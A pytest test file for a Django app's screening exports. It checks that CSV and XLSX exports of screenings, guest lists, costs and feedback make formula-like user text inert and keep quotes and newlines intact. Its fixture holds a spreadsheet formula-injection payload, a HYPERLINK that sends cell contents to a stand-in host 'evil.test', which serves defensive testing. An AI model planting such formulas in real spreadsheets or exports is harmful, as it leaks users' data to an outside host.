"""Every screenings list exports as CSV and XLSX (docs/formats.md, "Post"): the screenings, a
screening's guest list, its costs and its feedback summary, each read back, with user text that
starts like a formula written inert and a quote and a newline kept."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.post.screenings import services
from apps.post.screenings.models import Feedback, Guest, Rsvp
from tests.vendors.factories import VendorFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
QUOTED = 'Ann "Nan"\nO\'Hara'
QUOTED_NAME = 'Ann "Nan" O\'Hara'  # a guest's name is one line (the service folds a newline)


def url(world, name: str, **kwargs) -> str:
    return reverse(f"post:{name}", kwargs={"production_slug": world.production.slug, **kwargs})


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def xlsx_rows(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [tuple(cell for cell in row) for row in sheet.iter_rows()]


def values(cells) -> list:
    return [cell.value for cell in cells]


@pytest.fixture
def hostile(world):
    """The screening renamed like a formula at a quoted venue; a guest named like a formula who
    came and wrote feedback; a guest with quotes in their name whose comment holds a newline; two
    costs, one to a vendor with a quote and a newline in its name."""
    screening = world.screening
    screening.title, screening.venue = FORMULA, QUOTED
    screening.save()
    formula = services.guest_add(screening=screening, name=FORMULA, email="f@x.test")
    quoted = services.guest_add(screening=screening, name=QUOTED_NAME, email="q@x.test")
    Guest.objects.filter(pk=formula.pk).update(rsvp=Rsvp.YES, plus_ones=2)
    Guest.objects.filter(pk=quoted.pk).update(rsvp=Rsvp.NO)
    services.check_in(guest=formula)
    Feedback.objects.create(
        production=world.production, guest=formula, overall=4, story=5, pace=2, ending=None,
        comments=QUOTED,
    )  # fmt: skip
    Feedback.objects.create(
        production=world.production, guest=quoted, overall=5, story=None, pace=3, ending=4,
        comments=FORMULA,
    )  # fmt: skip
    vendor = VendorFactory(production=world.production, name=QUOTED)
    services.cost_add(
        screening=screening, description=FORMULA, amount=Decimal("850.50"), vendor=vendor,
        account_number="3307",
    )  # fmt: skip
    services.cost_add(screening=screening, description="Popcorn", amount=Decimal("40"))
    return world


def test_the_screenings_list_exports_with_its_counts(client, hostile):
    client.force_login(hostile.ap)
    page = client.get(url(hostile, "screenings")).content.decode()
    assert url(hostile, "screenings_export", fmt="csv") in page
    assert url(hostile, "screenings_export", fmt="xlsx") in page
    rows = csv_rows(client.get(url(hostile, "screenings_export", fmt="csv")))
    screening = hostile.screening
    assert rows == [
        ["Screening", "Kind", "Date", "Time", "Venue", "Cut shown", "Guests", "Coming", "Arrived"],
        ["'" + FORMULA, "Test screening", f"{screening.date:%Y-%m-%d}", "19:00", QUOTED,
         "Director's cut v2", "2", "1", "1"],
    ]  # fmt: skip
    sheet = xlsx_rows(client.get(url(hostile, "screenings_export", fmt="xlsx")))
    assert values(sheet[1])[:1] == [FORMULA] and sheet[1][0].data_type == "s"
    assert values(sheet[1])[4] == QUOTED and values(sheet[1])[6:] == [2, 1, 1]


def test_the_guest_list_exports_answers_and_arrivals(client, hostile):
    client.force_login(hostile.ap)
    rows = csv_rows(
        client.get(url(hostile, "screening_guests_export", pk=hostile.screening.pk, fmt="csv"))
    )
    assert rows[0] == ["Name", "E-mail", "From", "Answer", "Plus ones", "Arrived", "Feedback"]
    by_mail = {row[1]: row for row in rows[1:]}
    formula, quoted = by_mail["f@x.test"], by_mail["q@x.test"]
    assert formula[0] == "'" + FORMULA and formula[3:5] == ["Coming", "2"]
    assert formula[5] != "" and formula[6] == "yes"
    assert quoted[0] == QUOTED_NAME and quoted[3:7] == ["Not coming", "0", "", "yes"]
    sheet = xlsx_rows(
        client.get(url(hostile, "screening_guests_export", pk=hostile.screening.pk, fmt="xlsx"))
    )
    cells = {row[1].value: row[0] for row in sheet[1:]}
    assert cells["f@x.test"].value == FORMULA and cells["f@x.test"].data_type == "s"
    assert cells["q@x.test"].value == QUOTED_NAME


def test_a_screening_s_costs_export_with_their_amounts(client, hostile):
    client.force_login(hostile.ap)
    pk = hostile.screening.pk
    page = client.get(url(hostile, "screening", pk=pk)).content.decode()
    assert url(hostile, "screening_costs_export", pk=pk, fmt="csv") in page
    assert url(hostile, "screening_costs_export", pk=pk, fmt="xlsx") in page
    rows = csv_rows(client.get(url(hostile, "screening_costs_export", pk=pk, fmt="csv")))
    assert rows == [
        ["What", "Vendor", "Budget account", "Amount", "Purchase order", "Order status"],
        ["'" + FORMULA, QUOTED, "3307", "850.50", "", ""],
        ["Popcorn", "", "", "40.00", "", ""],
    ]
    (cost, _) = hostile.screening.costs.all()
    po = services.cost_to_purchase_order(cost=cost)
    sheet = xlsx_rows(client.get(url(hostile, "screening_costs_export", pk=pk, fmt="xlsx")))
    first = sheet[1]
    assert first[0].value == FORMULA and first[0].data_type == "s"
    assert first[1].value == QUOTED
    assert first[3].value == Decimal("850.50") or first[3].value == 850.5
    assert first[3].data_type == "n" and "0.00" in first[3].number_format
    assert values(first)[4:] == [po.label, "Draft"]


def test_the_feedback_summary_exports_its_questions_and_comments(client, hostile):
    client.force_login(hostile.ap)
    pk = hostile.screening.pk
    page = client.get(url(hostile, "screening_summary", pk=pk)).content.decode()
    assert url(hostile, "screening_summary_export", pk=pk, fmt="csv") in page
    assert url(hostile, "screening_summary_export", pk=pk, fmt="xlsx") in page
    rows = csv_rows(client.get(url(hostile, "screening_summary_export", pk=pk, fmt="csv")))
    assert rows[0] == [
        "Question", "Answers", "Average (1-5)", "Rated 1", "Rated 2", "Rated 3", "Rated 4",
        "Rated 5", "Guest", "Comment",
    ]  # fmt: skip
    questions = {row[0]: row[1:8] for row in rows[1:] if row[0]}
    overall = next(v for k, v in questions.items() if "overall" in k.lower())
    assert overall == ["2", "4.5", "0", "0", "0", "1", "1"]
    assert len(questions) == 4
    comments = [row[8:] for row in rows[1:] if not row[0]]
    assert sorted(comments) == sorted([["'" + FORMULA, QUOTED], [QUOTED_NAME, "'" + FORMULA]])
    sheet = xlsx_rows(client.get(url(hostile, "screening_summary_export", pk=pk, fmt="xlsx")))
    texts = [cell for row in sheet[1:] for cell in row[8:] if cell.value == FORMULA]
    assert len(texts) == 2 and all(cell.data_type == "s" for cell in texts)
    assert any(cell.value == QUOTED for row in sheet[1:] for cell in row[8:])
